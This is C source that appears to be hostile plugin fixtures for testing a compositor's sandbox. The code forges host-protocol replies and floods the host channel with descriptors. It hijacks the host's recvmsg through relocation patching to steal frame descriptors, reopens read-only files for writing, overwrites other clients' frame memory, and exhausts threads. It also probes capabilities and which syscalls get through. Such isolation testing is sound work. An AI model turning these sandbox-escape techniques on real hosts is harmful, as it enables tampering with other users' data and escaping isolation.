// Deeds that reach for what lies around a plugin: its channel to the host, the terminal, memory, threads, descriptors.
#include <link.h>
#include <pthread.h>
#include <linux/capability.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

// The channel to the host, which no plugin should know of.
enum { CHANNEL = 3 };

// A header as the host and its worker use it: mark, kind 64 (done), version, length and number.
struct forged { uint32_t mark; uint8_t kind, version; uint16_t zero; uint64_t length, number; };

static void forge(uint64_t length, size_t count) {
  const struct forged header = {0x504d4f43u, 64, 3, 0, length, 1};
  char bytes[64] = {0};
  memcpy(bytes, &header, sizeof header);
  send(CHANNEL, bytes, count, MSG_NOSIGNAL);
}

// Begins a reply of 4 MiB, and sends it byte by byte, each with the greatest number of descriptors that the host could take.
static void send_descriptors(void) {
  forge(4 << 20, sizeof(struct forged));
  for (;;) {
    char byte = 0;
    struct iovec part = {&byte, 1};
    union { struct cmsghdr header; char space[CMSG_SPACE(4 * sizeof(int))]; } control;
    memset(&control, 0, sizeof control);
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control.space, .msg_controllen = sizeof control.space};
    control.header = (struct cmsghdr){.cmsg_len = CMSG_LEN(4 * sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    memset(CMSG_DATA(&control.header), 0, 4 * sizeof(int));
    sendmsg(CHANNEL, &message, MSG_NOSIGNAL);
  }
}

// Takes the descriptors of frames as they come: the host's own call to receive them is led here.
static volatile int stolen;
static volatile char *volatile opened;
static void open_again(int descriptor) {
  // Outputs are ours to write; sources come read-only.
  if ((fcntl(descriptor, F_GETFL) & O_ACCMODE) != O_RDONLY) return;
  stolen++;
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", descriptor);
  fchmod(descriptor, 0600);
  const int again = open(path, O_RDWR);
  void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, again < 0 ? descriptor : again, 0);
  if (memory != MAP_FAILED) opened = memory;
}

static ssize_t receive(int socket, struct msghdr *message, int flags) {
  const ssize_t result = recvmsg(socket, message, flags);
  for (struct cmsghdr *header = result > 0 ? CMSG_FIRSTHDR(message) : NULL; header; header = CMSG_NXTHDR(message, header)) {
    if (header->cmsg_type != SCM_RIGHTS) continue;
    int descriptor;
    memcpy(&descriptor, CMSG_DATA(header), sizeof descriptor);
    open_again(descriptor);
  }
  return result;
}

// Puts another function in place of one that the program calls.
static void replace(uintptr_t base, const ElfW(Dyn) *dynamic, const char *name, void *other) {
  const ElfW(Sym) *symbols = NULL;
  const char *texts = NULL;
  uintptr_t tables[2] = {0};
  size_t sizes[2] = {0};
  for (; dynamic->d_tag != DT_NULL; dynamic++) {
    const uintptr_t value = dynamic->d_un.d_ptr < base ? base + dynamic->d_un.d_ptr : dynamic->d_un.d_ptr;
    switch (dynamic->d_tag) {
    case DT_SYMTAB: symbols = (const void *)value; break;
    case DT_STRTAB: texts = (const void *)value; break;
    case DT_RELA: tables[0] = value; break;
    case DT_RELASZ: sizes[0] = dynamic->d_un.d_val; break;
    case DT_JMPREL: tables[1] = value; break;
    case DT_PLTRELSZ: sizes[1] = dynamic->d_un.d_val; break;
    }
  }
  for (int table = 0; table < 2; table++) {
    const ElfW(Rela) *entry = (const void *)tables[table];
    for (size_t i = 0; entry && i < sizes[table] / sizeof *entry; i++) {
      const size_t symbol = ELF64_R_SYM(entry[i].r_info);
      if (symbol == 0 || strcmp(texts + symbols[symbol].st_name, name)) continue;
      void **slot = (void **)(base + entry[i].r_offset);
      mprotect((void *)((uintptr_t)slot / 4096 * 4096), 4096, PROT_READ | PROT_WRITE);
      *slot = other;
    }
  }
}

static int replace_receiving(struct dl_phdr_info *info, size_t size, void *unused) {
  (void)size, (void)unused;
  for (int i = 0; i < info->dlpi_phnum; i++)
    if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
      replace(info->dlpi_addr, (const void *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr), "recvmsg", receive);
  // The program itself comes first.
  return 1;
}

// Every writable mapping of frames but those of the one that is being asked for.
static void scribble(const uint8_t *own) {
  char line[512];
  unsigned long own_file = 0;
  for (int turn = 0; turn < 2; turn++) {
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof line, maps)) {
      unsigned long start, end, file;
      char access[8];
      if (sscanf(line, "%lx-%lx %7s %*s %*s %lu", &start, &end, access, &file) != 4 || !strstr(line, "compositor-frame")) continue;
      if (turn == 0 && (uintptr_t)own >= start && (uintptr_t)own < end) own_file = file;
      // As much as the smallest frame has: a mapping may be longer than what is behind it.
      if (turn == 1 && file != own_file && access[1] == 'w') memset((void *)start, 7, 4 * 4096);
    }
    if (maps) fclose(maps);
  }
}

static void *sleep_for_ever(void *unused) {
  (void)unused;
  for (;;) pause();
  return NULL;
}

static void start_threads(void) {
  pthread_attr_t attributes;
  pthread_attr_init(&attributes);
  pthread_attr_setstacksize(&attributes, 64 << 10);
  pthread_t thread;
  for (int i = 0; i < 5000; i++)
    if (pthread_create(&thread, &attributes, sleep_for_ever, NULL) != 0) break;
  sleep(2);
}

static int capabilities(void) {
  struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct data[2] = {{0}};
  if (syscall(SYS_capget, &header, data) != 0) return -1;
  return data[0].permitted || data[1].permitted || data[0].effective ? 1 : 0;
}

// Makes each call of the list in its own folder, and says which are let through: lines of a number, an error and six arguments.
static int32_t make_calls(const char *list, CompositorErrorText *error) {
  FILE *file = fopen(list, "r");
  if (!file) return snprintf(error->text, error->capacity, "no list"), COMPOSITOR_FAILED;
  long number, expected, a[6];
  int count = 0, let = 0;
  char names[512] = "";
  while (fscanf(file, "%ld %ld %ld %ld %ld %ld %ld %ld", &number, &expected, a, a + 1, a + 2, a + 3, a + 4, a + 5) == 8) {
    count++;
    const long result = syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]);
    if (result != -1 || errno != expected) {
      let++;
      const size_t length = strlen(names);
      snprintf(names + length, sizeof names - length, " %ld(%ld,%d)", number, result, errno);
    }
  }
  fclose(file);
  snprintf(error->text, error->capacity, "made %d calls, %d were let through:%s", count, let, names);
  return COMPOSITOR_FAILED;
}
